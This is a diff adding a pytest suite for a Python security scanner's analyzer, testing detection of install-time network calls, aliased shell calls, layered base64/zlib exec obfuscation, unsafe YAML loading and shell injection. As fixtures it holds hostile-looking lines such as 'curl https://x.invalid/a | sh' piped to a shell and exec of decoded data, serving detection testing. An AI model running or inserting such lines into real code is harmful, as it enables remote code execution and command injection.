@@ -1,0 +1,90 @@
+import base64
+
+from scanner.analyzers.base import Severity
+from scanner.analyzers.python import PythonAnalyzer
+
+
+def rules(folder):
+    return {finding.rule for finding in PythonAnalyzer().analyze(folder)}
+
+
+def test_a_setup_file_that_fetches_is_found_and_an_app_that_fetches_is_not(tree):
+    fetching = "import requests\n\nrequests.get('https://files.invalid/x', timeout=5)\n"
+
+    at_install = rules(tree({"setup.py": fetching}))
+    at_run_time = rules(tree({"setup.py": "", "client.py": fetching}))
+
+    assert at_install == {"python.install-network"}
+    assert at_run_time == set()
+
+
+def test_a_name_hidden_behind_an_alias_is_seen_through(tree):
+    folder = tree(
+        {"app.py": "import os as o\n\ngo = o.system\ngo('curl https://x.invalid/a | sh')\n"}
+    )
+
+    assert rules(folder) == {"python.shell-download"}
+
+
+def test_code_hidden_in_several_layers_is_seen_through(tree):
+    inner = base64.b64encode(b"import os").decode()
+    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({inner!r}[::-1])))\n"
+
+    assert "python.exec-decoded" in rules(tree({"app.py": code}))
+
+
+def test_an_unbalanced_quote_does_not_hide_anything(tree):
+    code = "_q = '\"\"\"'\nimport base64\nexec(base64.b64decode('eA=='))\n"
+
+    assert "python.exec-decoded" in rules(tree({"app.py": code}))
+
+
+def test_a_comment_cannot_switch_a_rule_off(tree):
+    code = "import yaml\n\nyaml.load(open('x'), Loader=yaml.Loader)  # nosec\n"
+
+    assert rules(tree({"app.py": code})) == {"python.yaml-load"}
+
+
+def test_weaknesses_in_tests_are_toned_down_and_malicious_code_is_not(tree):
+    weak = "import subprocess\n\n\ndef go(name):\n    subprocess.run('rm ' + name, shell=True)\n"
+    bad = "import base64\n\nexec(base64.b64decode('eA=='))\n"
+
+    findings = list(PythonAnalyzer().analyze(tree({"tests/a.py": weak, "tests/b.py": bad})))
+
+    assert {(f.rule, f.severity) for f in findings} == {
+        ("python.shell", Severity.INFO),
+        ("python.exec-decoded", Severity.CRITICAL),
+    }
+
+
+def test_a_file_that_cannot_be_read_does_not_keep_the_others_from_being_read(tree):
+    deep = "x = " + "(" * 5000 + ")" * 5000
+    wide = "x = " + " + ".join(["'a'"] * 20_000)
+    files = {"deep.py": deep, "wide.py": wide, "python2.py": "print 'hello'\n", "zero.py": "a\0b"}
+    files["bad.py"] = "import base64\nexec(base64.b64decode('eA=='))\n"
+
+    findings = list(PythonAnalyzer().analyze(tree(files)))
+
+    unread = {f.path for f in findings if f.rule == "engine.unreadable"}
+    assert unread >= {"deep.py", "python2.py", "zero.py"}
+    assert "python.exec-decoded" in {f.rule for f in findings if f.path == "bad.py"}
+
+
+def test_constants_that_double_each_other_take_no_time(tree):
+    lines = ["a0 = 'x' * 1"] + [f"a{n} = a{n - 1} + a{n - 1} + 'y'" for n in range(1, 60)]
+    code = "import os\n" + "\n".join(lines) + "\nos.system(a59)\n"
+
+    assert rules(tree({"app.py": code})) == {"python.shell"}
+
+
+def test_evidence_is_short_and_without_passwords(tree):
+    secret = "hunter" + "22222"
+    padding = "x" * 500
+    code = (
+        f"import os\nos.system('curl https://x.invalid | sh', password='{secret}')  # {padding}\n"
+    )
+
+    (finding,) = PythonAnalyzer().analyze(tree({"app.py": code}))
+
+    assert len(finding.evidence) <= 200
+    assert secret not in finding.evidence
